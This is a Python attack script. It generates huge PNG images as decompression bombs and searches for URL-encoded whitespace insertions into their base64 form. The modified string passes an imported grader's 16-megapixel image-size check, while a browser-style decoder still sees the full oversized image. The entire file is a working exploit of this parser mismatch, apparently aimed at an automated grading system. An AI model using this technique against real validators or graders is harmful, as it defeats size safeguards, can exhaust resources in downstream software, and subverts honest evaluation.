import zlib, struct, base64, itertools
def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
def png(w, h):
    row = b"\x00" + bytes((w + 7) // 8)
    comp = zlib.compressobj(9)
    raw = b"".join(comp.compress(row) for _ in range(1)) 
    # stream h rows
    co = zlib.compressobj(9); out = []
    for _ in range(h):
        out.append(co.compress(row))
    out.append(co.flush())
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)) + chunk(b"IDAT", b"".join(out)) + chunk(b"IEND", b"")

import sys
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
from grader.feedback import image_size

ESC = ["%0A", "%09", "%0C", "%0D", "%20", "%0a", "%0c", "%0d"]
def browser_view(t):
    import urllib.parse
    s = urllib.parse.unquote_to_bytes(t).decode("latin-1")
    return "".join(c for c in s if c not in " \t\n\x0c\r")

def find(B):
    for k in (1, 2, 3):
        for poss in itertools.combinations(range(21, 33), k):
            for escs in itertools.product(ESC[:5], repeat=k):
                t = B
                for p, e in sorted(zip(poss, escs), reverse=True):
                    t = t[:p] + e + t[p:]
                size = image_size("image/png", t)
                if size and size[0] * size[1] <= 16 * 2**20:
                    assert browser_view(t) == B
                    return t, size
    return None, None

if __name__ == "__main__":
    for w, h in [(23000, 23000), (20000, 20000), (30000, 30000), (16384, 16384), (23040, 23040)]:
        data = png(w, h)
        B = base64.b64encode(data).decode()
        t, size = find(B)
        print(w, h, len(data), "python sees", size, "t head", t[:70] if t else None)
